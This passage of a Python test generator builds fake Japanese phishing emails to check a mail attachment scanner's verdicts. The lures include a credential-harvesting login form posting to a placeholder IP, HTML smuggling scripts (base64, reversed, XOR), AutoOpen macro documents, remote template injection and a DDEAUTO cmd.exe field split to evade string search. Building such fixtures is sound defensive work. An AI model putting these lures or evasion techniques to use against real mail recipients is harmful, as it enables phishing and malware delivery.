    \\objemb \\objclass \\objdata), the CVE-2017-11882 carrier shape, with
    16 zero bytes for data."""
    rtf = (b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\r\n"
           b"\\pard test\\par\r\n{\\object\\objemb{\\*\\objclass Equation.3}"
           b"\\objw380\\objh260{\\*\\objdata " + ole1_equation().hex().encode()
           + b"}}\r\n}\r\n")
    return lure(n, "注文書", BODY_HEAD + BODY_TAIL,
                [attachment(rtf, "application/rtf", "注文書.doc")])


@fixture(must=[HTML_FORM])
def html_password_form(n=29):
    """An HTML attachment imitating a login page whose form posts the
    password to 192.0.2.10."""
    html = ('<!DOCTYPE html>\r\n<html><head><meta charset="utf-8">'
            '<title>Microsoft 365 サインイン</title></head><body>\r\n'
            '<form method="post" action="http://192.0.2.10/owa/login.php">\r\n'
            'メールアドレス <input type="email" name="login" '
            'value="yamada@example-corp.test"><br>\r\n'
            'パスワード <input type="password" name="passwd"><br>\r\n'
            '<input type="submit" value="サインイン"></form>\r\n'
            '</body></html>\r\n').encode("utf-8")
    return lure(n, "メールボックスの容量", "山田様\n\n容量の上限に達しました。\n"
                "添付のページからサインインしてください。\n",
                [attachment(html, "text/html", "Microsoft365.html")])


def smuggling_page(title, script, body_html=""):
    """An HTML page in the shape of the 2022-2023 smuggling kits: a short
    text, then the script that builds the download."""
    return ('<!DOCTYPE html>\r\n<html><head><meta charset="utf-8">'
            '<title>%s</title></head><body>\r\n'
            '<p>ファイルを読み込んでいます。このページを閉じないでください。</p>'
            '%s\r\n<script>\r\n// the document can\'t be shown in the '
            'browser\r\n%s</script></body></html>\r\n'
            % (title, body_html, script)).encode("utf-8")


@fixture(must=[SMUGGLING, SCRIPT], action="quarantine")
def html_smuggling_zip(n=36):
    """HTML smuggling as Qakbot sent it: a ZIP holding invoice.js, base64
    in an array of literals, decoded with atob into a Blob that
    msSaveOrOpenBlob or an <a download> hands the reader as 請求書.zip.
    The walker decodes it, so the script inside is found."""
    b64 = base64.b64encode(zip_stored([INVOICE_JS])).decode("ascii")
    pieces = ",\r\n".join("'%s'" % b64[i:i + 76]
                            for i in range(0, len(b64), 76))
    script = ("var data = [\r\n%s].join('');\r\n"
              "function toBytes(b) { var s = window.atob(b); "
              "var a = new Uint8Array(s.length);\r\n"
              "  for (var i = 0; i < s.length; i++) a[i] = s.charCodeAt(i);"
              " return a; }\r\n"
              "var fileName = '請求書.zip';\r\n"
              "var blob = new Blob([toBytes(data)], "
              "{type: 'application/octet-stream'});\r\n"
              "if (window.navigator.msSaveOrOpenBlob) "
              "window.navigator.msSaveOrOpenBlob(blob, fileName);\r\n"
              "else { var a = document.createElement('a'); "
              "a.href = window.URL.createObjectURL(blob);\r\n"
              "  a.download = fileName; document.body.appendChild(a); "
              "a.click(); }\r\n" % pieces)
    html = smuggling_page("請求書", script)
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(html, "text/html", "請求書.html")])


@fixture(must=[SMUGGLING, DISK_IMAGE, LNK, LNK_SUSPICIOUS], action="reject")
def html_smuggling_iso(n=37):
    """The other kit: an ISO with a shortcut in a data: URI behind an
    <a download="請求書.iso"> that a script clicks on load."""
    iso = iso_image("html-iso", [("請求書.lnk", lnk_lure())])
    link = ('<a id="dl" href="data:application/x-iso9660-image;base64,%s" '
            'download="請求書.iso">請求書.iso</a>'
            % base64.b64encode(iso).decode("ascii"))
    html = smuggling_page("請求書", "document.getElementById('dl').click();"
                          "\r\n", link)
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(html, "text/html", "請求書.html")]), \
        ["請求書.html", "請求書.iso"]


@fixture(must=[SMUGGLING, SCRIPT], action="quarantine")
def html_smuggling_numbers(n=39):
    """The kits that avoid base64: the same ZIP holding invoice.js as a
    Uint8Array of decimal byte values, handed out through createObjectURL
    and an <a download> as 請求書.zip."""
    data = zip_stored([INVOICE_JS])
    rows = ",\r\n".join(",".join(str(b) for b in data[i:i + 32])
                         for i in range(0, len(data), 32))
    script = ("var bytes = new Uint8Array([\r\n%s]);\r\n"
              "var blob = new Blob([bytes], {type: 'application/zip'});\r\n"
              "var a = document.createElement('a');\r\n"
              "a.href = URL.createObjectURL(blob);\r\n"
              "a.download = '請求書.zip'; a.click();\r\n" % rows)
    html = smuggling_page("請求書", script)
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(html, "text/html", "請求書.html")])


@fixture(must=[SMUGGLING, SCRIPT], action="quarantine")
def html_smuggling_reversed(n=40):
    """Base64 written backwards and turned round by the script before
    atob, as in Qakbot's 2023 pages: read forwards it is noise; the walker
    reads it backwards, finds a ZIP and the script inside."""
    b64 = base64.b64encode(zip_stored([INVOICE_JS])).decode("ascii")[::-1]
    script = ("var s = '%s';\r\n"
              "var d = window.atob(s.split('').reverse().join(''));\r\n"
              "var u = new Uint8Array(d.length);\r\n"
              "for (var i = 0; i < d.length; i++) u[i] = d.charCodeAt(i);\r\n"
              "window.navigator.msSaveOrOpenBlob(new Blob([u]), "
              "'請求書.zip');\r\n" % b64)
    html = smuggling_page("請求書", script)
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(html, "text/html", "請求書.html")])


@fixture(must=[SMUGGLING, SCRIPT], action="quarantine")
def html_smuggling_xor(n=41):
    """The kits that XOR their file with a key written in the script and
    read with charCodeAt: the base64 decodes to noise; the walker tries
    the script's literals as keys and finds the ZIP and the script inside."""
    key = b"Tk9!x"
    data = bytes(b ^ key[i % len(key)]
                 for i, b in enumerate(zip_stored([INVOICE_JS])))
    script = ("var k = '%s', s = '%s';\r\n"
              "var d = window.atob(s), u = new Uint8Array(d.length);\r\n"
              "for (var i = 0; i < d.length; i++)\r\n"
              "  u[i] = d.charCodeAt(i) ^ k.charCodeAt(i %% k.length);\r\n"
              "var a = document.createElement('a');\r\n"
              "a.href = URL.createObjectURL(new Blob([u]));\r\n"
              "a.download = '請求書.zip'; a.click();\r\n"
              % (key.decode("ascii"),
                 base64.b64encode(data).decode("ascii")))
    html = smuggling_page("請求書", script)
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(html, "text/html", "請求書.html")])


@fixture(must_not=[ACTIVE, ANY_ATTACH], action="accept")
def html_saved_page_images(n=38):
    """Not smuggling: a saved web page from a partner with its logo and a
    font inline as data: URIs and a base64 icon in a script, and a link
    to a download on the partner's site."""
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(200)).decode("ascii")
    woff = base64.b64encode(b"wOFF" + bytes(200)).decode("ascii")
    html = ('<!DOCTYPE html>\r\n<html><head><meta charset="utf-8">'
            '<title>製品カタログ</title><style>@font-face { font-family: x; '
            'src: url(data:font/woff;base64,%s); }</style></head><body>\r\n'
            '<img alt="logo" src="data:image/png;base64,%s">\r\n'
            '<p>カタログは <a href="https://www.partner.test/catalog.pdf" '
            'download>こちら</a> からダウンロードできます。</p>\r\n'
            '<script>var icon = "%s"; document.images[0].title = "logo";'
            '</script></body></html>\r\n' % (woff, png, png)).encode("utf-8")
    return mail(n, PARTNER, "製品カタログ",
                [text_part("山田様\n\n製品カタログのページをお送りします。\n"),
                 attachment(html, "text/html", "catalog.html")])


# ---- Office documents ------------------------------------------------------

def gen_office():
    return load_module("gen-office.py", "gen_office")


def docm(module_src):
    """A Word 2007+ macro document (stored, fixed times) whose
    word/vbaProject.bin holds MODULE_SRC (tests/gen-office.py's parts)."""
    g = gen_office()
    return zip_stored([
        ("[Content_Types].xml", g.CONTENT_TYPES.encode()),
        ("_rels/.rels", g.ROOT_RELS.encode()),
        ("word/document.xml", g.DOCUMENT_XML.encode()),
        ("word/_rels/document.xml.rels", g.DOC_RELS.encode()),
        ("word/vbaProject.bin", g.vba_bin(module_src)),
    ])


def docx_with(document_xml, doc_rels):
    """A Word 2007+ document with DOCUMENT_XML and word/_rels (no macro)."""
    g = gen_office()
    ct = g.CONTENT_TYPES.replace("vnd.ms-word.document.macroEnabled.main+xml",
                                 "vnd.openxmlformats-officedocument."
                                 "wordprocessingml.document.main+xml")
    return zip_stored([
        ("[Content_Types].xml", ct.encode()),
        ("_rels/.rels", g.ROOT_RELS.encode()),
        ("word/document.xml", document_xml.encode()),
        ("word/_rels/document.xml.rels", doc_rels.encode()),
    ])


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OD_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@fixture(must=[OPENED, MACRO, MACRO_AUTOEXEC, AUTOEXEC_ENCRYPTED],
         must_not=[ENCRYPTED, UNSCANNABLE], action="quarantine")
def emotet_doc_in_aes_zip(n=31):
    """Emotet's classic chain: an AES-256 ZIP whose password is in the
    body holds a .doc with an AutoOpen macro that calls Shell.  Opened
    with the body's password, the macro is found and the hiding forces
    quarantine."""
    g = gen_office()
    z = zip_aes256("emotet-doc", [("請求書_20240115.doc",
                                   g.word_doc(g.AUTOOPEN_SRC))], PW)
    body = BODY_HEAD + "添付ファイルのパスワード：%s\n" % PW + BODY_TAIL
    return lure(n, "請求書の送付", body,
                [attachment(z, "application/zip", "請求書_20240115.zip")]), \
        ["請求書_20240115.zip"]


@fixture(must=[MACRO, MACRO_AUTOEXEC], must_not=[AUTOEXEC_ENCRYPTED],
         action="quarantine")
def macro_docm_autoopen(n=32):
    """A .docm attached as is: vbaProject.bin with AutoOpen + Shell."""
    g = gen_office()
    return lure(n, "ご確認ください", BODY_HEAD + BODY_TAIL,
                [attachment(docm(g.AUTOOPEN_SRC), "application/"
                            "vnd.ms-word.document.macroEnabled.12",
                            "見積書.docm")])


@fixture(must=[MACRO], must_not=[MACRO_AUTOEXEC, ANY_EXECUTABLE],
         action="accept")
def macro_benign_partner(n=33):
    """A partner's .doc with a macro that only shows a message box:
    reported, stays accept (macro workbooks are business)."""
    g = gen_office()
    return partner(n, "発注書", "山田様\n\n発注書をお送りします。\n佐藤\n",
                   [attachment(g.word_doc(g.BENIGN_SRC),
                               "application/msword", "発注書.doc")])


@fixture(must=[TEMPLATE], must_not=[MACRO])
def template_injection_docx(n=34):
    """A .docx whose settings point at a remote template (the macro is
    fetched when Word opens it): attachedTemplate, TargetMode External."""
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="%s"><w:body><w:p><w:r><w:t>Invoice'
           '</w:t></w:r></w:p></w:body></w:document>' % W_NS)
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="%s"><Relationship Id="rId1" Type="%s/'
            'attachedTemplate" Target="http://192.0.2.10/templates/'
            'invoice.dotm" TargetMode="External"/></Relationships>'
            % (R_NS, OD_REL))
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(docx_with(doc, rels), "application/vnd."
                            "openxmlformats-officedocument.wordprocessingml."
                            "document", "請求書.docx")])


@fixture(must=[DDE], must_not=[MACRO])
def dde_docx_split_runs(n=35):
    """A DDEAUTO field whose instruction is split over three runs, as
    attackers write it to slip past a plain string search."""
    run = '<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>'
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="%s"><w:body><w:p>'
           '<w:r><w:fldChar w:fldCharType="begin"/></w:r>%s%s%s'
           '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
           '</w:p></w:body></w:document>'
           % (W_NS, run % " DDE", run % "AUTO c:\\windows\\system32\\"
              "cmd.exe ", run % '"/c echo test"'))
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="%s"></Relationships>' % R_NS)
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(docx_with(doc, rels), "application/vnd."
                            "openxmlformats-officedocument.wordprocessingml."
                            "document", "請求書.docx")])


# ---- clean control ---------------------------------------------------------

@fixture(must_not=[ANY_ATTACH], action="accept")
def zip_clean_partner(n=30):
    """Clean: the partner sends a plain ZIP of a PDF and a text."""
    z = zip_stored([("mitsumori.pdf", plain_pdf(b"Quotation 2024-002")),
                    ("readme.txt", "見積書です。\r\n".encode("utf-8"))])
    return partner(n, "お見積書", "山田様\n\nお見積書をお送りします。\n佐藤\n",
                   [attachment(z, "application/zip", "見積書.zip")])


# ---- driver ----------------------------------------------------------------

def write_all(outdir):
    os.makedirs(outdir, exist_ok=True)
    Work.root = os.path.join(outdir, ".work")
    shutil.rmtree(Work.root, ignore_errors=True)
    os.makedirs(Work.root)
    rows, skipped, seen = [], [], set()
    for fx in FIXTURES:
        fname = fx["name"]
        if fname in seen:
            raise SystemExit("gen-attach-fixtures: duplicate fixture %s" % fname)
        seen.add(fname)
        try:
            got = fx["build"]()
        except Skip as e:
            skipped.append("#skip\t%s\t%s" % (fname, e))
            print("gen-attach-fixtures: skipping %s: %s" % (fname, e))
            continue
        data, volatile = got if isinstance(got, tuple) else (got, [])
        if len(data) > 1000000:
            raise SystemExit("gen-attach-fixtures: %s too large" % fname)
        with open(os.path.join(outdir, fname), "wb") as fp:
            fp.write(data)
        rows.append("\t".join([
            fname, ",".join(fx["must"]) or "-", ",".join(fx["must_not"]) or "-",
            fx["action"] or "-", " ".join(fx["args"]) or "-",
            ",".join(volatile) or "-"]))
    shutil.rmtree(Work.root, ignore_errors=True)
    with open(os.path.join(outdir, "expect.tsv"), "w", encoding="utf-8") as fp:
        fp.write("# file\tmust\tmust_not\taction\targs\tvolatile\n")
        fp.write("".join(line + "\n" for line in rows + skipped))
    return len(rows), len(skipped)


def main(argv):
    if len(argv) != 2 or argv[1].startswith("-"):
        sys.stderr.write("usage: gen-attach-fixtures.py OUTDIR\n")
        return 2
    n, skipped = write_all(argv[1])
    print("gen-attach-fixtures: %d fixtures in %s%s" % (
        n, argv[1], ", %d skipped" % skipped if skipped else ""))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
